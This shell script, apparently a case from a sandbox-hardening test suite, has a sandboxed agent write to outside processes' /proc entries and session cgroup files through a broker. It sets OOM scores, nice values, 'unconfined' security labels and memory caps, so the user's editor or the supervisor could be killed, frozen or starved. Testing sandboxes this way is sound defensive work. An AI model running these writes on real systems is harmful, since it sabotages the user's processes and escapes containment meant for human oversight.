# technique: change an outside process through its writable /proc entries, written through the broker (which is outside the Landlock domain): OOM score (makes the user's editor or the supervisor the OOM killer's victim), autogroup nice (the whole terminal session, own entry included), timer slack, core dump filter, clear_refs, sched statistics, comm, per thread too
# requires: python3
# policy: attacks/policy/113-proc-write-outside.yaml, a project file that allows writing /proc/** (the profile's read-only /proc must not be the only wall)
# (and the cgroup files of the session: move the victim into the sandbox's cgroup or the agent out of it, re-weight the user's session)
. ./.adv/world.env
for p in "$VICTIM_PID" "$PPID" self; do
  for e in oom_score_adj oom_adj autogroup timerslack_ns coredump_filter clear_refs sched comm attr/current; do
    case $e in
      oom_score_adj) v=1000 ;; oom_adj) v=15 ;; autogroup) v=19 ;; timerslack_ns) v=100000000 ;;
      coredump_filter) v=0x7f ;; clear_refs) v=5 ;; sched) v=0 ;; comm) v=pwned ;; attr/current) v=unconfined ;;
    esac
    if (echo "$v" > "/proc/$p/$e") 2>/dev/null; then echo "/proc/$p/$e WRITTEN $v"; fi
    for t in /proc/$p/task/*; do
      (echo "$v" > "$t/$e") 2>/dev/null && echo "$t/$e WRITTEN $v"
    done
  done
done
cg=/sys/fs/cgroup$(cut -d: -f3 /proc/self/cgroup)
for f in "$cg/cgroup.procs" "$cg/../cgroup.procs" "$cg/cpu.weight" "$cg/../cpu.weight" "$cg/cpu.max" "$cg/memory.max" "$cg/cgroup.freeze"; do
  case $f in *procs) v=$VICTIM_PID ;; *weight) v=1 ;; *cpu.max) v='1000 100000' ;; *memory.max) v=1M ;; *) v=1 ;; esac
  (echo "$v" > "$f") 2>/dev/null && echo "$f WRITTEN $v"
done
cat /proc/$VICTIM_PID/cgroup
cat /proc/$VICTIM_PID/oom_score_adj /proc/$VICTIM_PID/autogroup /proc/self/autogroup 2>&1
python3 - "$VICTIM_PID" <<'PY' 2>&1
import os, sys
v = sys.argv[1]
for e, val in [("oom_score_adj", b"1000"), ("autogroup", b"19"), ("coredump_filter", b"0")]:
    for flags in (os.O_WRONLY, os.O_RDWR, os.O_WRONLY | os.O_TRUNC, os.O_WRONLY | os.O_APPEND):
        try:
            fd = os.open("/proc/%s/%s" % (v, e), flags)
            os.write(fd, val)
            print(e, "WRITTEN via flags", flags)
        except OSError as x:
            pass
PY
